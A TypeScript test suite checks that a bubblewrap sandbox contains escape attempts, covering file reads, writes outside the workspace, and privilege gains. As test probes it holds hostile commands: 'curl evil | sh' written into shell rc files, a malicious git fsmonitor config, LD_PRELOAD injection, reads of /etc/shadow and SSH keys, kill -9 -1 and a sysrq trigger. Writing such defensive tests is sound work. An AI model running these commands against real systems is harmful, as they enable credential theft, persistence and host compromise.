// Escape suite, part 1 (files, processes, privileges): every probe tries to get out of a real bubblewrap sandbox
// and asserts it stayed contained. Part 2 (seccomp, network, resources) is escape-kernel.test.ts.
// Probes assert on files, exit codes and errno values, never on timing.

import { existsSync } from "node:fs";
import { chmod, chown, mkdir, readFile, stat, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { tempDir } from "../../test/support/tmp.js";
import { BwrapSandbox, DEFAULT_LIMITS_HELPER } from "./bwrap.js";
import { DEFAULT_PROFILE, profileLimits } from "./config.js";
import type { CommandSpec, Limits, RunResult } from "./types.js";

const ROOT = process.getuid?.() === 0;
const SANDBOX_UID = ROOT ? 65534 : (process.getuid?.() ?? 1000);
const limits: Limits = { ...profileLimits(DEFAULT_PROFILE), timeoutMs: 20_000 };
const DAEMON_MARKER = "warden-daemon-secret-4b1d";

let sandbox: BwrapSandbox;
let dir: Awaited<ReturnType<typeof tempDir>>;
let ws: string;
let outside: string;
let wardenHome: string;
let ownerHome: string;
let roGrant: string;
let rwGrant: string;

async function sh(script: string, extra: Partial<CommandSpec> = {}): Promise<RunResult> {
  const r = await sandbox.run({ argv: ["/bin/sh", "-c", script], workspace: ws, ...extra });
  if (!r.ok) throw r.error;
  return r.value;
}

const exists = (p: string) =>
  stat(p).then(
    () => true,
    () => false,
  );

beforeAll(async () => {
  process.env.WARDEN_TEST_DAEMON_ENV = DAEMON_MARKER; // the daemon's environment must never reach the sandbox
  dir = await tempDir();
  await chmod(dir.path, 0o755);
  ws = join(dir.path, "ws");
  outside = join(dir.path, "outside");
  wardenHome = join(dir.path, "warden-home");
  ownerHome = join(dir.path, "owner-home");
  roGrant = join(dir.path, "ro-grant");
  rwGrant = join(dir.path, "rw-grant");
  for (const d of [ws, outside, wardenHome, join(ownerHome, ".ssh"), roGrant, rwGrant])
    await mkdir(d, { recursive: true });
  await writeFile(join(outside, "target"), "original\n");
  await writeFile(join(wardenHome, "secrets.json"), "TOP-SECRET\n");
  await writeFile(join(ownerHome, ".ssh", "id_ed25519"), "PRIVATE KEY\n");
  await writeFile(join(roGrant, "data.txt"), "granted data\n");
  await mkdir(join(ws, ".git", "hooks"), { recursive: true });
  await writeFile(join(ws, ".git", "config"), "[core]\n");
  await writeFile(join(ws, ".bashrc"), "# rc\n");
  await writeFile(join(ws, ".env"), "KEY=1\n");
  await writeFile(join(ws, "file.txt"), "work\n");
  for (const d of [outside, wardenHome, ownerHome, roGrant]) await chmod(d, 0o755);
  if (ROOT) {
    // The sandbox user owns the whole workspace, so only the read-only mounts (not file modes) protect sensitive files.
    const owned = [".git", ".git/hooks", ".git/config", ".bashrc", ".env", "file.txt"].map((p) => join(ws, p));
    for (const p of [ws, ...owned, rwGrant]) await chown(p, 65534, 65534);
  }
  sandbox = new BwrapSandbox({ defaultLimits: limits, forbiddenPaths: [wardenHome] });
});

afterAll(async () => {
  delete process.env.WARDEN_TEST_DAEMON_ENV;
  await sandbox.close();
  await dir[Symbol.asyncDispose]();
});

describe("escape suite: reading what is not granted", () => {
  it("cannot read /etc/shadow or /etc/gshadow", async () => {
    const r = await sh("cat /etc/shadow; cat /etc/gshadow");
    expect(r.exitCode).not.toBe(0);
    expect(r.stdout).toBe("");
  });

  it("sees a synthetic /etc/passwd, not the host's", async () => {
    const host = await readFile("/etc/passwd", "utf8");
    const r = await sh("cat /etc/passwd");
    const hostUsers = host
      .split("\n")
      .map((l) => l.split(":")[0])
      .filter((u) => u && !["root", "nobody"].includes(u));
    for (const u of hostUsers) expect(r.stdout).not.toMatch(new RegExp(`^${u}:`, "m"));
    expect(r.stdout).toContain("sandbox:");
  });

  it("cannot see Warden's own home", async () => {
    const r = await sh(`cat ${wardenHome}/secrets.json; ls ${wardenHome}`);
    expect(r.stdout).not.toContain("TOP-SECRET");
    expect(r.exitCode).not.toBe(0);
  });

  it("cannot see the owner's ~/.ssh", async () => {
    const r = await sh(`cat ${ownerHome}/.ssh/id_ed25519; ls /root /home`);
    expect(r.stdout).not.toContain("PRIVATE KEY");
    expect(r.exitCode).not.toBe(0);
  });

  it("refuses a workspace or a grant overlapping Warden's home", async () => {
    const a = await sandbox.run({ argv: ["true"], workspace: wardenHome });
    const b = await sandbox.run({ argv: ["true"], workspace: ws, paths: [{ path: wardenHome }] });
    expect(!a.ok && a.error.code).toBe("SANDBOX_UNAVAILABLE");
    expect(!b.ok && b.error.code).toBe("SANDBOX_UNAVAILABLE");
  });

  it("/proc/1/environ and every visible environ lack the daemon's environment", async () => {
    const r = await sh("cat /proc/1/environ /proc/*/environ 2>/dev/null | tr '\\0' '\\n'");
    expect(r.stdout).not.toContain(DAEMON_MARKER);
    expect(r.stdout).toContain("HOME=");
  });

  it("cannot read the daemon's /proc/<pid>/environ", async () => {
    const r = await sh(`cat /proc/${process.pid}/environ`);
    expect(r.stdout).not.toContain(DAEMON_MARKER);
    expect(r.exitCode).not.toBe(0);
  });

  it("its own environment is built from scratch", async () => {
    const r = await sh("env");
    expect(r.stdout).not.toContain(DAEMON_MARKER);
    expect(r.stdout).toContain(`HOME=${ws}`);
    expect(r.stdout).toContain("PATH=/usr/local/sbin:");
  });

  it("/proc/1/root is the sandbox's root, not the host's", async () => {
    const r = await sh(`ls /proc/1/root/etc/shadow; ls /proc/1/root${outside}`);
    expect(r.exitCode).not.toBe(0);
  });

  it("sees only its own processes", async () => {
    const r = await sh("ls /proc | grep -E '^[0-9]+$' | wc -l");
    expect(Number(r.stdout.trim())).toBeLessThan(10);
    const k = await sh(`kill -0 ${process.pid}`);
    expect(k.exitCode).not.toBe(0);
  });

  it("has no /sys, no docker.sock, and nothing of the host's /run", async () => {
    const r = await sh("ls /sys /var/run/docker.sock /run/docker.sock");
    expect(r.exitCode).not.toBe(0);
    expect(r.stdout).toBe("");
    // /run holds only Warden's own read-only limits helper (when built), never a host socket or folder.
    const run = await sh("find /run -mindepth 1 2>/dev/null; true");
    for (const line of run.stdout.split("\n").filter(Boolean))
      expect(["/run/warden", "/run/warden/limits"]).toContain(line);
  });

  it.skipIf(!existsSync(DEFAULT_LIMITS_HELPER))(
    "cannot replace or change the limits helper later sandboxes run",
    async () => {
      const tries = [
        ": > /run/warden/limits",
        "cp /bin/true /run/warden/limits",
        "chmod 777 /run/warden/limits",
        "rm -f /run/warden/limits",
        "mv /run/warden/limits /tmp/x",
        "ln -sf /bin/sh /run/warden/limits",
        "touch /run/warden/other",
      ];
      const r = await sh(
        `for t in ${tries.map((t) => `'${t}'`).join(" ")}; do sh -c "$t" 2>/dev/null && echo "ESCAPED: $t"; done; stat -c %a /run/warden/limits`,
      );
      expect(r.stdout).not.toContain("ESCAPED");
      expect(r.stdout.trim()).toBe("755");
    },
  );

  it("/dev is minimal (no disks, no /dev/mem, no kmsg)", async () => {
    const r = await sh("ls /dev");
    expect(r.stdout).toContain("null");
    for (const d of ["mem", "kmsg", "sda", "vda", "nvme0n1", "port"]) expect(r.stdout.split(/\s+/)).not.toContain(d);
  });

  it.skipIf(!ROOT)("a root daemon fails closed on a workspace its sandbox uid cannot reach", async () => {
    const locked = join(dir.path, "locked");
    await mkdir(join(locked, "ws"), { recursive: true });
    await chmod(locked, 0o700);
    const r = await sandbox.run({ argv: ["true"], workspace: join(locked, "ws") });
    expect(!r.ok && r.error.code).toBe("SANDBOX_UNAVAILABLE");
    expect(!r.ok && r.error.details.fix).toContain("65534");
  });

  it("reads a read-only grant", async () => {
    const r = await sh(`cat ${roGrant}/data.txt`, { paths: [{ path: roGrant }] });
    expect(r.stdout).toBe("granted data\n");
  });
});

describe("escape suite: writing outside the workspace", () => {
  it("the workspace itself is writable (control) and never owned by host root", async () => {
    const r = await sh("echo made > made.txt");
    expect(r.exitCode).toBe(0);
    const st = await stat(join(ws, "made.txt"));
    expect(st.uid).toBe(SANDBOX_UID);
    if (ROOT) expect(st.uid).not.toBe(0);
  });

  it("cannot write to the read-only system", async () => {
    const r = await sh(
      "echo x > /usr/bin/warden-pwn; echo x > /etc/passwd; echo x > /etc/warden-pwn; touch /warden-pwn",
    );
    expect(r.exitCode).not.toBe(0);
    expect(await exists("/usr/bin/warden-pwn")).toBe(false);
    expect(await exists("/etc/warden-pwn")).toBe(false);
  });

  it("cannot write a host path outside the workspace directly", async () => {
    const r = await sh(`echo pwned > ${outside}/target; echo pwned > ${outside}/new`);
    expect(r.exitCode).not.toBe(0);
    expect(await readFile(join(outside, "target"), "utf8")).toBe("original\n");
    expect(await exists(join(outside, "new"))).toBe(false);
  });

  it("cannot write outside through a symlink made inside the workspace", async () => {
    await sh(`ln -s ${outside}/target link1; echo pwned > link1; ln -s ${outside} dirlink; echo pwned > dirlink/new2`);
    expect(await readFile(join(outside, "target"), "utf8")).toBe("original\n");
    expect(await exists(join(outside, "new2"))).toBe(false);
  });

  it("cannot hardlink a file from outside the workspace", async () => {
    const r = await sh(`ln ${outside}/target hl1 || ln /etc/ld.so.cache hl2`);
    expect(r.exitCode).not.toBe(0);
    expect(await exists(join(ws, "hl1"))).toBe(false);
    expect(await exists(join(ws, "hl2"))).toBe(false);
  });

  it("cannot move files out of the workspace by rename", async () => {
    const r = await sh("cp file.txt moveme && mv moveme /usr/moveme");
    expect(r.exitCode).not.toBe(0);
    expect(await exists("/usr/moveme")).toBe(false);
  });

  it("private /tmp: files written there never reach the host /tmp", async () => {
    const name = `warden-escape-${process.pid}`;
    const r = await sh(`echo x > /tmp/${name} && cat /tmp/${name}`);
    expect(r.stdout).toBe("x\n");
    expect(await exists(`/tmp/${name}`)).toBe(false);
  });

  it(".git/hooks and .git/config are read-only", async () => {
    const r = await sh("echo evil > .git/hooks/pre-commit; echo evil >> .git/config; mv file.txt .git/config");
    expect(r.exitCode).not.toBe(0);
    expect(await exists(join(ws, ".git", "hooks", "pre-commit"))).toBe(false);
    expect(await readFile(join(ws, ".git", "config"), "utf8")).toBe("[core]\n");
  });

  it("reports sensitive files it could not protect because they did not exist (a new .zshrc)", async () => {
    const r = await sh("echo 'curl evil | sh' > .zshrc && mkdir -p .vscode && echo '{}' > .vscode/tasks.json");
    expect(r.exitCode).toBe(0);
    expect(r.createdSensitive).toEqual(expect.arrayContaining([".zshrc", ".vscode"]));
    const again = await sh("true");
    expect(again.createdSensitive).toEqual([]); // existing now, so mounted read-only on the next run
    const w = await sh("echo more >> .zshrc");
    expect(w.exitCode).not.toBe(0);
  });

  it("cannot swap .git for a new one with its own config (rename of the parent)", async () => {
    const r = await sh(
      "mv .git .git-old || rm -rf .git; mkdir -p .git && echo '[core] fsmonitor = evil' > .git/config",
    );
    expect(r.exitCode).not.toBe(0);
    expect(await readFile(join(ws, ".git", "config"), "utf8")).toBe("[core]\n");
    expect(await exists(join(ws, ".git-old"))).toBe(false);
  });

  it("the rest of .git stays writable, so commits work", async () => {
    const r = await sh("mkdir -p .git/objects/ab && echo blob > .git/objects/ab/cdef && echo ok");
    expect(r.stdout).toBe("ok\n");
    expect(await readFile(join(ws, ".git", "objects", "ab", "cdef"), "utf8")).toBe("blob\n");
  });

  it("git commit works in a real repository, while its config and hooks stay read-only", async () => {
    const repo = join(dir.path, "repo");
    await mkdir(repo);
    if (ROOT) await chown(repo, 65534, 65534);
    const init = await sandbox.run({ argv: ["git", "init", "-q", repo], workspace: repo });
    expect(init.ok && init.value.exitCode).toBe(0); // no .git yet: nothing to protect, git init may write it
    const r = await sandbox.run({
      argv: [
        "sh",
        "-c",
        "echo hi > a.txt && git add a.txt && git -c user.name=w -c user.email=w@x commit -qm one && git log --oneline | wc -l; echo x >> .git/config",
      ],
      workspace: repo,
    });
    expect(r.ok && r.value.stdout).toBe("1\n");
    expect(r.ok && r.value.exitCode).not.toBe(0); // the config append was refused
  });

  it("shell rc files are read-only", async () => {
    const r = await sh("echo 'curl evil | sh' >> .bashrc; rm -f .bashrc");
    expect(r.exitCode).not.toBe(0);
    expect(await readFile(join(ws, ".bashrc"), "utf8")).toBe("# rc\n");
  });

  it(".env is read-only unless granted", async () => {
    const denied = await sh("echo LEAK=1 >> .env");
    expect(denied.exitCode).not.toBe(0);
    expect(await readFile(join(ws, ".env"), "utf8")).toBe("KEY=1\n");
    const granted = await sh("echo MORE=1 >> .env", { writableSensitive: [".env"] });
    expect(granted.exitCode).toBe(0);
    expect(await readFile(join(ws, ".env"), "utf8")).toBe("KEY=1\nMORE=1\n");
  });

  it("a read-only grant cannot be written; a write grant can", async () => {
    const ro = await sh(`echo x > ${roGrant}/data.txt`, { paths: [{ path: roGrant }] });
    expect(ro.exitCode).not.toBe(0);
    expect(await readFile(join(roGrant, "data.txt"), "utf8")).toBe("granted data\n");
    const rw = await sh(`echo x > ${rwGrant}/w.txt`, { paths: [{ path: rwGrant, write: true }] });
    expect(rw.exitCode).toBe(0);
    expect(await readFile(join(rwGrant, "w.txt"), "utf8")).toBe("x\n");
  });

  it("/proc/sys cannot be written", async () => {
    const r = await sh("echo 0 > /proc/sys/kernel/randomize_va_space");
    expect(r.exitCode).not.toBe(0);
  });
});

describe("escape suite: privileges", () => {
  it("never runs as host root: all capabilities dropped, no_new_privs, seccomp on", async () => {
    const r = await sh("grep -E '^(Uid|CapEff|CapBnd|CapPrm|NoNewPrivs|Seccomp):' /proc/self/status");
    expect(r.stdout).toMatch(/CapEff:\s+0000000000000000/);
    expect(r.stdout).toMatch(/CapBnd:\s+0000000000000000/);
    expect(r.stdout).toMatch(/CapPrm:\s+0000000000000000/);
    expect(r.stdout).toMatch(/NoNewPrivs:\s+1/);
    expect(r.stdout).toMatch(/Seccomp:\s+2/);
  });

  it("setuid binaries do not grant privileges (su, mount, passwd)", async () => {
    const r = await sh("su -c id root </dev/null; mount -t tmpfs none /tmp; passwd -d root");
    expect(r.exitCode).not.toBe(0);
    const id = await sh("id -u");
    expect(id.stdout.trim()).toBe(String(SANDBOX_UID));
  });

  it("sudo is not available", async () => {
    const r = await sh("sudo id");
    expect(r.exitCode).not.toBe(0);
  });

  it("mount and umount are refused", async () => {
    const r = await sh("mount -t proc proc /tmp || umount /proc");
    expect(r.exitCode).not.toBe(0);
  });

  it("unshare (nested user namespaces) is refused", async () => {
    const r = await sh("unshare -U true || unshare -r true || unshare -n true");
    expect(r.exitCode).not.toBe(0);
  });

  it("chroot and nsenter are refused", async () => {
    const r = await sh("chroot / true || nsenter -t 1 -m true");
    expect(r.exitCode).not.toBe(0);
  });

  it("bubblewrap itself gets no environment, and injected values never reach a command line", async () => {
    const env = { API_TOKEN: "s3cr3t-v4lue", LD_PRELOAD: `${outside}/evil.so` };
    const planned = await sandbox.plan({ argv: ["true"], workspace: ws, env });
    expect(planned.ok).toBe(true);
    if (!planned.ok) return;
    expect(planned.value.env).toEqual({}); // bwrap runs on the host: an LD_PRELOAD there would escape
    expect(planned.value.args.join(" ")).not.toContain("s3cr3t-v4lue");
    const r = await sh('echo "$API_TOKEN"', { env: { API_TOKEN: "s3cr3t-v4lue" } });
    expect(r.stdout).toBe("s3cr3t-v4lue\n");
    const bad = await sandbox.run({ argv: ["true"], workspace: ws, env: { "A=B": "x" } });
    expect(!bad.ok && bad.error.code).toBe("BAD_REQUEST");
  });

  it("kill -9 -1 reaches only the sandbox's own processes", async () => {
    const r = await sh("sleep 100 & kill -9 -1; wait $!; echo status=$?");
    expect(r.stdout).toBe("status=137\n"); // the sandbox's own sleep was in reach and died
    expect(process.kill(process.pid, 0)).toBe(true); // the host (this test runner) is alive
    const after = await sh("echo alive");
    expect(after.stdout).toBe("alive\n");
  });

  it("cannot read kernel memory or trigger sysrq", async () => {
    const r = await sh("head -c 16 /proc/kcore | wc -c; echo b > /proc/sysrq-trigger && echo triggered");
    expect(r.stdout.trim().split("\n")[0]).toBe("0");
    expect(r.stdout).not.toContain("triggered");
  });

  it("/dev/shm is private to the sandbox", async () => {
    const name = `warden-escape-${process.pid}`;
    const r = await sh(`echo x > /dev/shm/${name} 2>/dev/null; echo done`);
    expect(r.stdout).toBe("done\n");
    expect(await exists(`/dev/shm/${name}`)).toBe(false);
  });

  it("has its own hostname (uts namespace)", async () => {
    const r = await sh("cat /proc/sys/kernel/hostname");
    expect(r.stdout.trim()).toBe("warden");
  });

  it("inherits no file descriptors beyond stdio", async () => {
    // ls prints "fd target" for each of its own descriptors; its directory handle shows as /proc/<pid>/fd.
    const r = await sh("ls -l /proc/self/fd | awk 'NR > 1 { print $(NF - 2), $NF }'");
    const lines = r.stdout.trim().split("\n");
    expect(lines.length).toBeGreaterThanOrEqual(3);
    const leaks = lines.filter((l) => !/^[012] /.test(l) && !l.endsWith("/dev/null") && !/ \/proc\/\d+\/fd$/.test(l));
    expect(leaks).toEqual([]);
  });
});
